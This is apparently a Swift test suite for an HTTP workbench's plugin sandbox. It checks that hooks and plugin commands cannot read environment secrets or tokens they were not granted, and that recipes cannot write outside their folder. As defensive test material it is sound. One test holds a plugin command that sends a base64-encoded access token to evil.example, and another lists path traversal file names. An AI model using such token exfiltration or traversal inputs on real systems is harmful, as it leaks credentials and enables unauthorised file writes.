import BenchSupport
import Diagnostics
import Foundation
import HTTPMessage
import JSONKit
import Plugins
import Script
import Session
import Testing

@testable import Debugging
@testable import Workbench

/// What plugins may do holds in the scope of the call that they work on, and ends with it.
@Suite struct ServedScopeTests {
    private static let preset = """
        provider p-provider
          base_url https://p.example
          clients_url https://p.example/clients
          key_variable SECRET
        end
        on request
          client list --remote
        end

        """

    /// A plugin chooses the variable and the address in its preset, so it would read any variable of the user.
    @Test func aPresetTakesNoVariableOfTheEnvironmentToItsPlugin() async throws {
        for (needs, isSent) in [("", false), ("needs api_key \"to list clients\"\n", true)] {
            let bench = await Bench([.json(["data": []]), .json([:])])
            try await bench.added("plugin p 1.0.0\n\(needs)\(Self.preset)")
            let failures = await bench.run("use p-provider\nget /x")
            #expect(failures == (isSent ? [] : ["plugin-masked"]))
            let key = "Bearer from-the-environment"
            #expect(bench.transport.requests.contains { $0.headers["Authorization"] == key } == isSent)
        }
    }

    /// The user's own command goes on to use the variable.
    @Test func thePresetStillWorksForTheUser() async throws {
        let bench = await Bench([.json(["data": []])])
        let text = Self.preset.prefix(upTo: try #require(Self.preset.firstRange(of: "on request")).lowerBound)
        try await bench.added("plugin p 1.0.0\n\(text)")
        #expect(await bench.run("use p-provider\nclient list --remote") == [])
        #expect(bench.transport.requests.first?.headers["Authorization"] == "Bearer from-the-environment")
    }

    /// By a filter a value would leave in a form that is not known to be secret.
    @Test func aHookSeesNoVariableOfTheEnvironment() async throws {
        let bench = await Bench([.json([:])])
        try await bench.added("plugin p 1.0.0\non request\n  change X-A:{{env.SECRET | base64}}\nend\n")
        #expect(await bench.run("get /x") == ["plugin-line"])
        #expect(bench.transport.requests.isEmpty)
    }

    /// A secret that a hook itself has brought is a secret for the hook, too.
    @Test func aHookSeesNoSecretThatItHasJustBrought() async throws {
        let fresh: JSON = ["access_token": "opaque value 2", "token_type": "Bearer"]
        let bench = await Bench([.tokens, .json(fresh), .json([:])])
        #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
        let hook = "on request\n  refresh\n  change X-A:{{$.access_token | base64}}\nend\n"
        try await bench.added("plugin p 1.0.0\n\(hook)")
        #expect(await bench.run("get /x") == [])
        let secret = Data("opaque value 2".utf8).base64EncodedString()
        #expect(bench.transport.requests.last?.headers["X-A"] != nil)
        #expect(bench.transport.requests.last?.headers["X-A"] != secret)
    }

    /// Queries, `why` and recipes look at what the user's command got, whatever a hook sends before or behind it.
    @Test(arguments: ["request", "response", "failure"])
    func whatAHookSendsIsNotTheLastExchange(hook: String) async throws {
        let refused: HTTPResponse = .json(["error": "invalid_token", "of": "call"], status: 401)
        let own: HTTPResponse = .json(["of": "hook"])
        let bench = await Bench(hook == "request" ? [own, refused] : [refused, own])
        try await bench.added("plugin p 1.0.0\non \(hook)\n  get /of-the-hook\nend\n")
        #expect(await bench.run("try get /x\nexpect $.of == call") == [])
        let failed = try #require(try await bench.workbench.store().lastFailure()?.exchange)
        let entry = try await bench.workbench.store().exchange(failed)
        #expect(entry?.exchange.request.url.hasSuffix("/x") == true)
        #expect(bench.transport.requests.count == 2)
    }

    /// A command of a script sees what its needs name, as a hook does.
    @Test func aCommandOfAScriptSeesNoSecretThatWasNotGranted() async throws {
        for (needs, isSeen) in [("", false), ("needs access_token \"to sign\"\n", true)] {
            let bench = await Bench([.tokens, .json([:])])
            #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
            let command = "define p-go\n  get https://evil.example/ X-A:{{token.access | base64}}\nend\n"
            try await bench.added("plugin p 1.0.0\n\(needs)\(command)")
            await bench.run("p-go")
            let secret = Data("access-token-1".utf8).base64EncodedString()
            #expect((bench.transport.requests.last?.headers["X-A"] == secret) == isSeen)
        }
    }

    @Test func aQuestionAfterTheCallIsRefused() async throws {
        let bench = await Bench([.json([:])])
        try await bench.addedProcess("answer({})")
        #expect(await bench.run("p-run") == [])
        guard case .failure(let error) = await bench.workbench.answer("keyway/run", ["line": "get /x"], to: "p", [])
        else {
            Issue.record("the line was run")
            return
        }
        #expect(error.code == "no-call")
        #expect(bench.transport.requests.isEmpty)
        await bench.workbench.endPlugins()
    }

    /// What a hook sends is not what the previewed command sends.
    @Test func aPreviewIsOfTheCommandAndNotOfAHook() async throws {
        let bench = await Bench()
        try await bench.added("plugin p 1.0.0\non request\n  get /of-the-hook --no-token\nend\n")
        let source = ScriptSource(.commandLine, text: "get /x")
        let call = try #require(try await bench.workbench.call(source))
        let evaluator = Evaluator(host: bench.workbench, vocabulary: bench.workbench.vocabulary, source: source)
        let invocation = try await evaluator.invocation(of: call, mayFail: false)
        let lines = await bench.workbench.preview(of: invocation)
        #expect(lines?.contains { $0.contains("/of-the-hook") } != true)
        #expect(bench.transport.requests.isEmpty)
    }

    /// A folder that is still to be made lies beside the recipe, if no name of the path leads out of it.
    @Test(arguments: [
        ("new/in/e.sh", true), ("e.sh", true), ("new/../../e.sh", false), ("new/.hidden/e.sh", false),
        ("../e.sh", false),
    ])
    func aRecipeWritesIntoNewFoldersBesideItself(file: String, isWritten: Bool) async throws {
        let bench = await Bench([.json([:])])
        #expect(await bench.run(Bench.ready + "get /x") == [])
        let folder = bench.folder + "/recipes"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        let source = ScriptSource(
            .recipe(path: "\(folder)/r.keyway"), text: "export curl --to \(folder)/\(file)")
        let codes = await bench.workbench.run(source).map(\.code)
        #expect(codes == (isWritten ? [] : ["not-allowed"]))
        #expect(TestFiles(sessionFolder: "").exists("\(folder)/\(file)") == isWritten)
    }
}
